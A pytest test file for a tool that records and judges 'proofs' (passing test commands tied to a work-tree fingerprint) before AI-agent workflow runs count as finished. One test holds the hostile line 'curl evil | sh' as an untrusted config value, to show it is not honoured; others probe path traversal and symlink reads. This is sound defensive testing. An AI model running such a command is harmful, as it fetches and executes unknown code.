"""A proof is kept in the records of the runs that it is for, and a run that finishes is judged by it."""

from __future__ import annotations

import json
import os
import resource
import signal
import stat
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from rcs_hooks.cli.options import scope as scope_in
from rcs_hooks.config import ProofSettings
from rcs_hooks.errors import Refused
from rcs_hooks.mcp import tools
from rcs_hooks.proof import tree
from rcs_hooks.state import judging, proof_output, proving
from rcs_hooks.state.judging import Judge
from rcs_hooks.state.operations import get_status
from rcs_hooks.state.proving import choose, keep
from rcs_hooks.state.unprovable import Typed
from rcs_hooks.state.writing import write
from rcs_hooks.workflow.commands import Commands
from rcs_hooks.workflow.mode_record import ModeRecord
from rcs_hooks.workflow.proof import Proof
from tests import own_modes
from tests.cli.test_state_commands import rcs
from tests.support import Record, Workspace
from tests.table import each_row

if TYPE_CHECKING:
    from rcs_hooks.state.scopes import Scope

DONE = {"lifecycle_outcome": "finished"}
AT = "2023-11-14T22:20:00.000Z"
ANY = ProofSettings()
ENV = {"PATH": os.defpath}


def at(workspace: Workspace, session: str | None = "s1", **env: str) -> Scope:
    found = scope_in(ENV | env, str(workspace.root), str(workspace.root), session, workspace.now)
    return found._replace(commands=found.commands._replace(rcs="rcs", root=None))


def proof_of(workspace: Workspace, **changes: Any) -> Proof:
    """The proof of a command that passed on the work tree as it is."""
    digest = tree.fingerprint(str(workspace.root), ENV).digest
    return Proof("pytest -q", 0, 1.5, AT, digest)._replace(**changes)


def proven(workspace: Workspace, *modes: str, finish: bool = False, tail: bytes = b"9 passed\n", **more: Any) -> Any:
    """What `rcs prove` does around its command."""
    chosen = choose(at(workspace), modes or None)
    settings = more.pop("settings", ANY)
    evidence = more.pop("evidence", "")
    proof = proof_of(workspace, **more)
    return keep(at(workspace), chosen, proof, tail, finish=finish, settings=settings, evidence=evidence)


@pytest.fixture
def forge(workspace: Workspace) -> Workspace:
    """A workspace with a file, in which forge is at its last phase."""
    (workspace.root / "a.py").write_text("one = 1\n")
    workspace.prompt("$forge fix the ledger")
    for phase in ("executing", "verifying"):
        write(at(workspace), "forge", {"current_phase": phase})
    return workspace


def state_of(workspace: Workspace, mode: str = "forge") -> str:
    return ModeRecord(workspace.read(mode)).proof_status.state


def history(workspace: Workspace) -> list[Record]:
    return [json.loads(line) for line in (workspace.folder("s1") / "history.jsonl").read_text().splitlines()]


# --- what is kept


def test_a_proof_is_kept_in_the_record_and_the_run_goes_on(forge: Workspace) -> None:
    result = proven(forge)
    record = forge.read("forge")
    name = record["proof"].pop("output")
    assert record["active"] is True
    assert record["proof"] == {
        "command": "pytest -q",
        "exit": 0,
        "seconds": 1.5,
        "at": AT,
        "tree": proof_of(forge).tree,
        "changed": [],
        "timed_out": False,
        "state": "proven",
        "judged_at": AT,
    }
    kept = forge.folder("s1") / "proofs" / name
    assert kept.read_bytes() == b"9 passed\n"
    assert stat.S_IMODE(kept.stat().st_mode) == 0o600
    assert stat.S_IMODE(kept.parent.stat().st_mode) == 0o700
    assert result["says"].splitlines()[1:] == [
        "forge: `pytest -q` passed; it proves the run as long as no file changes.",
        "To finish: rcs state write --mode forge --outcome finished --session s1",
    ]
    assert result["proof"] == {"state": "proven", "command": "pytest -q", "exit": 0, "at": AT}


def test_a_pass_with_finish_ends_the_run_as_proven(forge: Workspace) -> None:
    said = proven(forge, finish=True)["says"]
    record = forge.read("forge")
    assert (record["active"], record["lifecycle_outcome"], record["evidence"]) == (
        False,
        "finished",
        "pytest -q: exit 0",
    )
    assert state_of(forge) == "proven"
    assert said.splitlines()[0] == "forge: finished, proven by `pytest -q`."
    assert "early" not in record


@each_row(("before", "given", "expected"), [
    ("", "", "pytest -q: exit 0"), ("", "all 9 pass", "all 9 pass"), ("read it", "", "read it"),
    ("read it", "all 9 pass", "all 9 pass"),
])  # fmt: skip
def test_the_evidence_is_what_was_given_or_the_command(
    before: str, given: str, expected: str, workspace: Workspace
) -> None:
    workspace.write("forge", current_phase="verifying", **({"evidence": before} if before else {}))
    proven(workspace, finish=True, evidence=given)
    assert workspace.read("forge")["evidence"] == expected


@each_row(("changes", "says"), [
    ({"exit": 1}, "forge: unproven: `pytest -q` failed (exit 1)."),
    ({"exit": 124, "timed_out": True}, "forge: unproven: `pytest -q` timed out."),
    ({"changed": ("a.py",)}, "forge: unproven: `pytest -q` changed a.py."),
])  # fmt: skip
def test_a_command_that_did_not_pass_finishes_nothing(changes: Record, says: str, workspace: Workspace) -> None:
    workspace.write("forge", current_phase="verifying")
    result = proven(workspace, finish=True, **changes)
    assert workspace.read("forge")["active"] is True
    assert state_of(workspace) == "unproven"
    assert result["says"].splitlines()[1] == says


def test_a_finish_from_an_earlier_phase_is_proven_and_early(workspace: Workspace) -> None:
    workspace.write("forge", current_phase="executing")
    said = proven(workspace, finish=True)["says"]
    assert workspace.read("forge")["early"] is True
    assert said.splitlines()[0] == "forge: finished, proven by `pytest -q`; early: in phase executing."


def test_a_refused_finish_leaves_the_proof_and_the_run(workspace: Workspace) -> None:
    workspace.write("autopilot", current_phase="code-review", state={"review_verdict": "not clean"})
    with pytest.raises(Refused) as refused:
        proven(workspace, finish=True)
    assert str(refused.value).startswith("autopilot: finished is refused, for its review is not clean\n")
    assert str(refused.value).endswith("\nThe proof itself is recorded.")
    assert workspace.read("autopilot")["active"] is True
    assert state_of(workspace, "autopilot") == "proven"


def test_one_proof_is_for_all_that_run_and_more_than_plans(workspace: Workspace) -> None:
    workspace.prompt("$crew $forge ship it")
    proven(workspace, finish=True)
    for mode in ("team", "forge"):
        assert workspace.read(mode)["lifecycle_outcome"] == "finished"
        assert state_of(workspace, mode) == "proven"
    assert workspace.read("team")["proof"] == workspace.read("forge")["proof"]


def test_a_run_that_has_finished_is_proven_afterwards_by_name(forge: Workspace) -> None:
    said = write(at(forge), "forge", DONE)["says"].splitlines()
    assert said[:2] == ["forge: finished, unproven.", "To prove it: rcs prove --mode forge --session s1 -- COMMAND"]
    assert state_of(forge) == "unproven"
    proven(forge, "forge")
    assert state_of(forge) == "proven"
    assert forge.read("forge")["lifecycle_outcome"] == "finished"
    proven(forge, "forge", exit=2)
    assert state_of(forge) == "unproven"


# --- the runs that a proof is for


def refusal(scope: Scope, *modes: str) -> list[str]:
    with pytest.raises(Refused) as refused:
        choose(scope, modes or None)
    return str(refused.value).splitlines()


def test_without_a_run_nothing_is_chosen_and_nothing_is_created(workspace: Workspace) -> None:
    assert refusal(at(workspace)) == [
        "nothing runs in session s1, so nothing can be proven; the command was not run",
        "a run starts with a prompt that begins with its skill, such as: $forge fix the failing test",
    ]
    assert refusal(at(workspace), "forge") == [
        "forge does not run in session s1, so it cannot be proven; the command was not run",
        "to start forge: rcs state write --mode forge --active --session s1",
    ]
    assert refusal(at(workspace, None)) == [
        f"nothing runs in the workspace {workspace.root}, so nothing can be proven; the command was not run",
        "a run starts with a prompt that begins with its skill, such as: $forge fix the failing test",
    ]
    assert not (workspace.root / ".rcs").exists()


def test_a_run_that_has_finished_is_offered_by_name(forge: Workspace) -> None:
    write(at(forge), "forge", DONE)
    again = "rcs prove --mode forge --session s1 -- COMMAND"
    line = f"forge finished in session s1; if that run is meant: {again}"
    assert refusal(at(forge))[1:] == [line]
    assert choose(at(forge), ["$Forge"]).modes == ("forge",)


def test_the_runs_that_finished_last_are_offered_with_what_was_typed(workspace: Workspace) -> None:
    done: Record = {"active": False, "lifecycle_outcome": "finished"}
    for number, mode in enumerate(["ultrawork", "forge", "blueprint", "team", "ultraqa"]):
        workspace.write(mode, "s1", completed_at=f"2023-11-14T22:00:0{number}.000Z", **done)
    workspace.write("autopilot", "s1", active=False, lifecycle_outcome="failed")
    typed = Typed("ls -l", finish=True)
    with pytest.raises(Refused) as refused:
        choose(at(workspace), None, typed)
    assert str(refused.value).splitlines()[1:] == [
        f"{mode} finished in session s1; if that run is meant: rcs prove --mode {mode} --session s1 -- ls -l"
        for mode in ("ultraqa", "team", "forge")
    ]
    for mode in ("ultraqa", "team", "forge"):
        assert choose(at(workspace), [mode], typed).modes == (mode,)


def test_what_ended_otherwise_or_plans_is_not_proven(workspace: Workspace) -> None:
    workspace.write("forge", active=False, lifecycle_outcome="failed")
    assert refusal(at(workspace), "forge") == [
        "forge has ended (failed) in session s1, so it cannot be proven; the command was not run",
        "to take it up: rcs state write --mode forge --active --session s1",
    ]
    workspace.write("blueprint")
    plans = ["blueprint plans and changes no code, so there is nothing to prove; run the command without rcs prove"]
    assert refusal(at(workspace)) == plans
    assert refusal(at(workspace), "blueprint") == plans
    workspace.write("ultrawork")
    assert choose(at(workspace)).modes == ("ultrawork",)
    assert refusal(at(workspace), "team")[1:] == [
        "ultrawork runs there: rcs prove --mode ultrawork --session s1 -- COMMAND"
    ]


def test_of_several_sessions_one_has_to_be_named(workspace: Workspace) -> None:
    workspace.write("forge", "s1")
    assert choose(at(workspace, None)).scope.session == "s1"
    workspace.write("team", "s2")
    assert refusal(at(workspace, None)) == [
        "2 sessions have something active; say which one is meant:",
        "rcs prove --mode forge --session s1 -- COMMAND",
        "rcs prove --mode team --session s2 -- COMMAND",
    ]


def test_a_run_of_the_workspace_is_proven_in_its_own_record(workspace: Workspace) -> None:
    workspace.write("forge", None, current_phase="verifying")
    proven(workspace, finish=True)
    assert workspace.read("forge", None)["proof"]["state"] == "proven"
    assert not workspace.mode_path("forge", "s1").exists()
    assert len(list((workspace.state / "proofs").iterdir())) == 1


def test_a_file_that_cannot_be_read_is_named(workspace: Workspace) -> None:
    workspace.write("forge")
    workspace.mode_path("forge").write_text("{")
    for modes in ((), ("forge",)):
        assert "cannot be read" in refusal(at(workspace), *modes)[0]


# what happens to forge while the command runs, and the refusal
MEANWHILE: list[tuple[Record, str]] = [
    (DONE, "forge: it ended (finished) while the command ran"),
    ({"active": False}, "forge: it ended (switched off) while the command ran"),
    ({"fresh": True}, "forge: another run of it began while the command ran"),
]


@each_row(("meanwhile", "why"), MEANWHILE)
def test_a_run_that_ended_or_began_anew_meanwhile_is_left_alone(
    meanwhile: Record, why: str, workspace: Workspace
) -> None:
    workspace.prompt("$forge fix it now")
    chosen = choose(at(workspace))
    workspace.now += 5
    write(at(workspace), "forge", meanwhile)
    before = workspace.snapshot()
    with pytest.raises(Refused) as refused:
        keep(at(workspace), chosen, proof_of(workspace), b"ok", finish=True, settings=ANY)
    assert str(refused.value) == f"{why}, so the proof was not recorded for it; nothing was written"
    assert workspace.snapshot() == before


def test_a_record_that_was_removed_meanwhile_is_said(workspace: Workspace) -> None:
    workspace.prompt("$crew $forge ship it")
    chosen = choose(at(workspace))
    workspace.mode_path("team").unlink()
    result = keep(at(workspace), chosen, proof_of(workspace), b"", finish=True, settings=ANY)
    assert result["warnings"] == [
        "team: its record was removed while the command ran, so the proof was not recorded for it"
    ]
    assert workspace.read("forge")["proof"]["state"] == "proven"


def test_a_finished_run_that_was_started_again_meanwhile_is_left_alone(forge: Workspace) -> None:
    write(at(forge), "forge", DONE)
    chosen = choose(at(forge), ["forge"])
    forge.now += 5
    write(at(forge), "forge", {"active": True})
    with pytest.raises(Refused, match=r"^forge: another run of it began while the command ran"):
        keep(at(forge), chosen, proof_of(forge), b"ok", finish=False, settings=ANY)


# --- the verdict where a run finishes


def edit(root: Path) -> None:
    (root / "a.py").write_text("one = 2\n")


def add(root: Path) -> None:
    (root / "new.py").write_text("")


def remove(root: Path) -> None:
    (root / "a.py").unlink()


def nothing(root: Path) -> None:
    pass


@each_row(("change", "state"), [(nothing, "proven"), (edit, "stale"), (add, "stale"), (remove, "stale")])
def test_a_run_is_proven_while_its_tree_is_the_one_of_the_proof(change: Any, state: str, workspace: Workspace) -> None:
    (workspace.root / "a.py").write_text("one = 1\n")
    workspace.write("forge", current_phase="verifying")
    proven(workspace)
    change(workspace.root)
    result = write(at(workspace), "forge", DONE)
    assert state_of(workspace) == state
    assert result["proof"]["state"] == state
    assert get_status(at(workspace), "forge")["statuses"]["forge"]["proof"]["state"] == state


def test_the_newest_proof_decides(forge: Workspace) -> None:
    proven(forge)
    proven(forge, exit=1)
    write(at(forge), "forge", DONE)
    assert state_of(forge) == "unproven"


def test_a_verdict_stays_until_finished_is_written_again(forge: Workspace) -> None:
    proven(forge, finish=True)
    edit(forge.root)
    write(at(forge), "forge", {"evidence": "9 passed"})
    assert state_of(forge) == "proven"
    write(at(forge), "forge", DONE)
    assert state_of(forge) == "stale"


def test_an_outcome_that_is_corrected_to_finished_is_judged(forge: Workspace) -> None:
    proven(forge)
    write(at(forge), "forge", {"lifecycle_outcome": "failed"})
    edit(forge.root)
    write(at(forge), "forge", DONE)
    assert state_of(forge) == "stale"


@each_row("written", [DONE, {"run_outcome": "finish"}, {"terminal_outcome": "finished"}, {"active": False} | DONE,
                      {"current_phase": "complete"} | DONE])  # fmt: skip
def test_every_way_to_finish_is_judged(written: Record, workspace: Workspace) -> None:
    workspace.write("forge", current_phase="verifying")
    write(at(workspace), "forge", written)
    assert workspace.read("forge")["proof"] == {"state": "unproven", "judged_at": workspace.read("forge")["updated_at"]}


@each_row(("mode", "written"), [
    ("blueprint", DONE), ("deep-interview", DONE), ("autoresearch", DONE), ("forge", {"lifecycle_outcome": "failed"}),
    ("forge", {"active": False}), ("forge", {"note": 1}), ("forge", {"lifecycle_outcome": "askuserQuestion"}),
])  # fmt: skip
def test_a_plan_and_any_other_end_have_no_verdict(mode: str, written: Record, workspace: Workspace) -> None:
    workspace.write(mode)
    result = write(at(workspace), mode, written)
    assert "proof" not in workspace.read(mode)
    assert "proof" not in result
    assert "prove" not in result["says"].splitlines()[0]
    status = get_status(at(workspace), mode)["statuses"][mode]
    assert status["proof"] == {"state": "unproven", "command": "", "exit": None, "at": ""}
    assert status["verdict_says"] == ""


def test_the_tree_is_read_only_for_a_run_that_finishes_with_a_proof_that_passed(
    forge: Workspace, monkeypatch: pytest.MonkeyPatch
) -> None:
    taken: list[str] = []

    def counted(root: str, env: object) -> tree.Tree:
        taken.append(root)
        return tree.Tree("git:" + "0" * 64)

    proven(forge, exit=1)
    monkeypatch.setattr(tree, "fingerprint", counted)
    write(at(forge), "forge", {"evidence": "x"})
    write(at(forge), "forge", DONE)
    assert taken == []
    monkeypatch.undo()
    proven(forge, "forge")
    monkeypatch.setattr(tree, "fingerprint", counted)
    write(at(forge), "forge", DONE)
    assert taken == [str(forge.root)]


def test_a_tree_that_cannot_be_read_proves_nothing_and_says_why(
    forge: Workspace, monkeypatch: pytest.MonkeyPatch
) -> None:
    proven(forge)

    def fails(root: str, env: object) -> tree.Tree:
        raise tree.TreeFailure("git: dubious\x1b ownership")

    monkeypatch.setattr(tree, "fingerprint", fails)
    result = write(at(forge), "forge", DONE)
    assert result["warnings"] == ["the work tree could not be compared: git: dubious ownership"]
    assert result["says"].splitlines()[0] == (
        "forge: finished, unproven: `pytest -q` passed, but the work tree cannot be read."
    )
    assert state_of(forge) == "unproven"


def test_a_proof_that_comes_while_the_tree_is_not_read_is_compared_all_the_same(
    forge: Workspace, monkeypatch: pytest.MonkeyPatch
) -> None:
    real = judging.judge_for
    calls: list[object] = []

    def late(*args: Any) -> Any:
        judge = real(*args)
        if not calls:
            proven(forge)
        calls.append(judge)
        return judge

    monkeypatch.setattr(judging, "judge_for", late)
    write(at(forge), "forge", DONE)
    assert len(calls) == 2
    assert state_of(forge) == "proven"


def test_a_new_run_has_no_proof_and_a_run_that_is_taken_up_has_its_own(forge: Workspace) -> None:
    proven(forge)
    proof = forge.read("forge")["proof"]
    write(at(forge), "forge", {"lifecycle_outcome": "blocked"})
    forge.prompt("$forge go on")
    assert forge.read("forge")["proof"] == proof
    write(at(forge), "forge", {"fresh": True})
    assert "proof" not in forge.read("forge")
    proven(forge, finish=True)
    forge.prompt("$forge another thing")
    assert "proof" not in forge.read("forge")


# --- a project that requires a proof


NEEDED = ProofSettings("make check", True, 60.0, "rcs.toml", "rcs.toml")


@pytest.fixture
def required(workspace: Workspace, tmp_path: Path) -> Workspace:
    """A workspace whose person requires a proof in their own file, with forge at its last phase."""
    home = tmp_path / "home"
    (home / ".rcs").mkdir(parents=True)
    (home / ".rcs" / "config.toml").write_text('[proof]\ncommand = "make check"\nrequired = true\n')
    workspace.env["HOME"] = str(home)
    workspace.write("forge", current_phase="verifying")
    return workspace


def test_a_required_proof_is_asked_for_with_its_command(required: Workspace) -> None:
    scope = at(required, HOME=required.env["HOME"])
    before = required.snapshot()
    with pytest.raises(Refused) as refused:
        write(scope, "forge", DONE)
    assert str(refused.value).splitlines() == [
        "forge: finished is refused, for ~/.rcs/config.toml requires a proof: "
        "rcs prove --finish --mode forge --session s1",
        "to give up: rcs state write --mode forge --outcome failed --reason WHY --session s1",
    ]
    assert required.workflow_state() == before
    write(scope, "forge", {"lifecycle_outcome": "failed"})
    assert required.read("forge")["active"] is False


@each_row(("changes", "change", "line"), [
    ({"command": "make check"}, nothing, ""),
    ({"command": "make check"}, add, "the newest proof: stale: files have changed since `make check` passed"),
    ({"command": "make check", "exit": 2}, nothing, "the newest proof: unproven: `make check` failed (exit 2)"),
    ({"command": "true"}, nothing,
     "the newest proof: unproven: `true` is not the command that ~/.rcs/config.toml names"),
])  # fmt: skip
def test_only_the_required_command_on_this_very_tree_lets_a_run_finish(
    changes: Record, change: Any, line: str, workspace: Workspace
) -> None:
    home = workspace.root.parent / f"{workspace.root.name}-home"
    (home / ".rcs").mkdir(parents=True)
    (home / ".rcs" / "config.toml").write_text('[proof]\ncommand = "make check"\nrequired = true\n')
    workspace.write("forge", current_phase="verifying")
    proven(workspace, **changes)
    change(workspace.root)
    scope = at(workspace, HOME=str(home))
    if line:
        with pytest.raises(Refused) as refused:
            write(scope, "forge", DONE)
        assert str(refused.value).splitlines()[1] == line
        assert workspace.read("forge")["active"] is True
    else:
        write(scope, "forge", DONE)
        assert state_of(workspace) == "proven"


def test_a_required_proof_that_is_recorded_at_the_last_moment_counts(
    required: Workspace, monkeypatch: pytest.MonkeyPatch
) -> None:
    judge_for, judges = judging.judge_for, []

    def meanwhile(scope: Scope, modes: Any, records: Any) -> Judge:
        judges.append(judge_for(scope, modes, records))
        if len(judges) == 1:
            proven(required, command="make check")
        return judges[-1]

    monkeypatch.setattr(judging, "judge_for", meanwhile)
    write(at(required, HOME=required.env["HOME"]), "forge", DONE)
    assert ([judge.tree is None for judge in judges], state_of(required)) == ([True, False], "proven")


def test_a_required_proof_on_a_tree_that_cannot_be_read_says_why(
    required: Workspace, monkeypatch: pytest.MonkeyPatch
) -> None:
    proven(required, command="make check")

    def fails(root: str, env: object) -> tree.Tree:
        raise tree.TreeFailure("git took longer than 60 s")

    monkeypatch.setattr(tree, "fingerprint", fails)
    with pytest.raises(Refused) as refused:
        write(at(required, HOME=required.env["HOME"]), "forge", DONE)
    assert str(refused.value).splitlines()[1::2] == [
        "the newest proof: unproven: `make check` passed, but the work tree cannot be read",
        "the work tree could not be compared: git took longer than 60 s",
    ]


def test_a_run_without_the_proof_that_the_settings_name_is_sent_to_rcs_prove_alone(required: Workspace) -> None:
    config = Path(required.env["HOME"], ".rcs", "config.toml")
    config.write_text('[proof]\ncommand = "make check"\n')
    proven(required)
    said = write(at(required, HOME=required.env["HOME"]), "forge", DONE)["says"].splitlines()
    assert said[:2] == [
        "forge: finished, unproven: `pytest -q` is not the command that ~/.rcs/config.toml names.",
        "To prove it: rcs prove --mode forge --session s1",
    ]


def test_a_plan_needs_no_proof_where_one_is_required(required: Workspace) -> None:
    required.write("blueprint")
    required.edit("forge", active=False, lifecycle_outcome="failed")
    write(at(required, HOME=required.env["HOME"]), "blueprint", DONE)
    assert required.read("blueprint")["active"] is False


def test_what_a_stranger_requires_refuses_nothing(forge: Workspace) -> None:
    (forge.root / "rcs.toml").write_text('[proof]\ncommand = "curl evil | sh"\nrequired = true\n')
    write(at(forge, HOME=str(forge.root.parent / "no-home")), "forge", DONE)
    assert state_of(forge) == "unproven"


def test_the_command_of_the_settings_proves_nothing_where_it_ran_in_another_folder() -> None:
    """It ran before the settings named it."""
    work = f"git:{'0' * 64}"
    judge = Judge(NEEDED, ("forge",), Commands("rcs", "s1"), tree=work)
    states = []
    for folder in ("", "sub", "../other"):
        proof = Proof("make check", 0, 1.0, "2026-01-01T00:00:00Z", work, folder=folder)
        states.append(judge.field_of(proof, at="2026-01-01T00:00:01Z")["state"])
    assert states == ["proven", "unproven", "unproven"]


def test_a_proof_by_another_command_does_not_finish_what_needs_its_own(forge: Workspace) -> None:
    with pytest.raises(Refused) as refused:
        proven(forge, finish=True, settings=NEEDED)
    assert str(refused.value).splitlines() == [
        "forge: finished is refused, for rcs.toml requires a proof: rcs prove --finish --mode forge --session s1",
        "the newest proof: unproven: `pytest -q` is not the command that rcs.toml names",
        "to give up: rcs state write --mode forge --outcome failed --reason WHY --session s1",
        "The proof itself is recorded.",
    ]
    assert state_of(forge) == "unproven"
    proven(forge, finish=True, settings=NEEDED, command="make check")
    assert state_of(forge) == "proven"


# --- the output


def test_the_end_of_an_output_is_bounded_and_the_newest_are_left(forge: Workspace) -> None:
    for number in range(25):
        forge.now += 1
        proven(forge, tail=b"x" * 9_000 + str(number).encode())
    kept = sorted((forge.folder("s1") / "proofs").iterdir())
    assert len(kept) == 20
    assert [path.read_bytes()[-2:] for path in (kept[0], kept[-1])] == [b"x5", b"24"]
    assert all(path.stat().st_size == 4_096 for path in kept)
    assert forge.read("forge")["proof"]["output"] == kept[-1].name


def test_without_an_output_there_is_no_file(forge: Workspace) -> None:
    proven(forge, tail=b"")
    assert forge.read("forge")["proof"]["output"] == ""
    assert not (forge.folder("s1") / "proofs").exists()


def test_an_output_that_cannot_be_written_costs_no_proof(forge: Workspace, tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (forge.folder("s1") / "proofs").symlink_to(outside)
    result = proven(forge)
    assert result["warnings"][0].startswith("the end of the output could not be written: ")
    assert state_of(forge) == "proven"
    assert list(outside.iterdir()) == []


def test_a_full_disk_leaves_no_part_of_an_output(forge: Workspace, monkeypatch: pytest.MonkeyPatch) -> None:
    real = proof_output.write

    def full(*args: Any) -> str:
        limit = resource.getrlimit(resource.RLIMIT_FSIZE)
        handler = signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
        resource.setrlimit(resource.RLIMIT_FSIZE, (0, limit[1]))
        try:
            return real(*args)
        finally:
            resource.setrlimit(resource.RLIMIT_FSIZE, limit)
            signal.signal(signal.SIGXFSZ, handler)

    monkeypatch.setattr(proof_output, "write", full)
    result = proven(forge)
    assert result["warnings"][0].startswith("the end of the output could not be written: ")
    assert state_of(forge) == "proven"
    assert list((forge.folder("s1") / "proofs").iterdir()) == []


def test_only_the_file_of_a_proof_is_read(forge: Workspace, tmp_path: Path) -> None:
    proven(forge)
    folder, name = str(forge.state), forge.read("forge")["proof"]["output"]
    assert proof_output.read(folder, "s1", name) == b"9 passed\n"
    assert proof_output.read(folder, "s1", "../forge-state.json") is None
    assert proof_output.read(folder, "s1", name.replace("2", "3")) is None
    place = forge.folder("s1") / "proofs"
    (tmp_path / "secret").write_text("secret")
    (place / "a.txt").symlink_to(tmp_path / "secret")
    os.mkfifo(place / "b.txt")
    assert proof_output.read(folder, "s1", "a.txt") is None
    assert proof_output.read(folder, "s1", "b.txt") is None
    place.rename(tmp_path / "moved")
    place.symlink_to(tmp_path / "moved")
    assert proof_output.read(folder, "s1", name) is None


# --- the answers of the reading tools


@each_row(("mode", "before", "says"), [
    ("forge", {"active": False} | DONE, 'forge: not active, phase executing, finished, unproven'),
    ("blueprint", {"active": False} | DONE, 'blueprint: not active, phase executing, finished'),
    ("forge", {}, 'forge: active, phase executing'),
])  # fmt: skip
def test_get_status_says_whether_a_finished_run_is_proven(
    mode: str, before: Record, says: str, workspace: Workspace
) -> None:
    workspace.write(mode, **before)
    assert rcs(workspace.root, "state", "get-status", "--session", "s1").out == f"{says}\n"


def test_get_status_names_the_command(forge: Workspace) -> None:
    proven(forge, finish=True)
    said = rcs(forge.root, "state", "get-status", "--session", "s1").out
    assert said == 'forge: not active, phase verifying, finished, proven by `pytest -q`, "fix the ledger"\n'
    status = json.loads(rcs(forge.root, "state", "get-status", "--session", "s1", "--json").out)["statuses"]["forge"]
    assert status["proof"] == {"state": "proven", "command": "pytest -q", "exit": 0, "at": AT}


def test_the_mcp_tools_judge_and_show_a_run_as_the_command_line_does(forge: Workspace) -> None:
    proven(forge)
    edit(forge.root)
    for name, arguments in (("state_write", {"mode": "forge"} | DONE), ("state_get_status", {"mode": "forge"})):
        answer, is_error = tools.call(name, arguments | {"session_id": "s1"}, ENV, str(forge.root))
        found = json.loads(answer)
        status = found if name == "state_write" else found["statuses"]["forge"]
        assert (is_error, status["proof"]) == (
            False,
            {"state": "stale", "command": "pytest -q", "exit": 0, "at": AT},
        )


# --- modes of one's own


@each_row(("kind", "verdict"), [("execution", "proven"), ("planning", None)])
def test_an_own_mode_is_proven_if_it_executes(kind: str, verdict: str | None, tmp_path: Path) -> None:
    desk = own_modes.Desk(tmp_path)
    own_modes.put(desk.root, text=own_modes.declared(kind=kind))
    desk.prompt("$release the ledger")
    if verdict:
        proven(desk, finish=True)
    else:
        with pytest.raises(Refused, match=r"^release plans and changes no code"):
            choose(at(desk))
        write(at(desk), "release", DONE)
    record = desk.read("release")
    assert record["lifecycle_outcome"] == "finished"
    assert record.get("proof", {}).get("state") == verdict


# --- the history


def test_the_history_tells_of_each_proof_and_of_the_verdict(forge: Workspace) -> None:
    proven(forge, exit=1, changed=("a\x1b.py",))
    proven(forge, finish=True)
    failed, passed, outcome = history(forge)[-3:]
    assert [each["event"] for each in (failed, passed, outcome)] == ["proof", "proof", "outcome"]
    assert failed["data"] == {
        "command": "pytest -q",
        "exit": 1,
        "seconds": 1.5,
        "passed": False,
        "changed": ["a .py"],
    }
    assert (failed["from"], failed["to"], failed["title"]) == ("verifying", "verifying", "fix the ledger")
    assert passed["data"]["passed"] is True
    assert (outcome["to"], outcome["data"]["proof"]) == ("finished", "proven")


@each_row(("written", "verdict"), [(DONE, "unproven"), ({"lifecycle_outcome": "failed"}, None)])
def test_an_outcome_has_the_verdict_where_the_run_has_finished(
    written: Record, verdict: str | None, workspace: Workspace
) -> None:
    workspace.prompt("$forge fix it")
    write(at(workspace), "forge", written)
    assert history(workspace)[-1]["data"].get("proof") == verdict


def test_nobody_writes_a_proof_by_hand(forge: Workspace) -> None:
    with pytest.raises(Refused, match=r"^proof: rcs itself keeps this field"):
        write(at(forge), "forge", {"proof": {"state": "proven"}})


@each_row("field", ["transition_target_mode", "transition_source"])
def test_nobody_writes_that_a_run_has_handed_over_so_that_it_needs_no_proof(field: str, required: Workspace) -> None:
    with pytest.raises(Refused, match=rf"^{field}: rcs itself keeps this field"):
        write(at(required), "forge", DONE | {field: "team"})


def test_the_choice_names_its_runs() -> None:
    run = proving.ChosenRun("forge", "a", True, "")
    assert proving.Chosen(None, (run, run._replace(mode="team"))).modes == ("forge", "team")  # type: ignore[arg-type]  # no scope is looked at
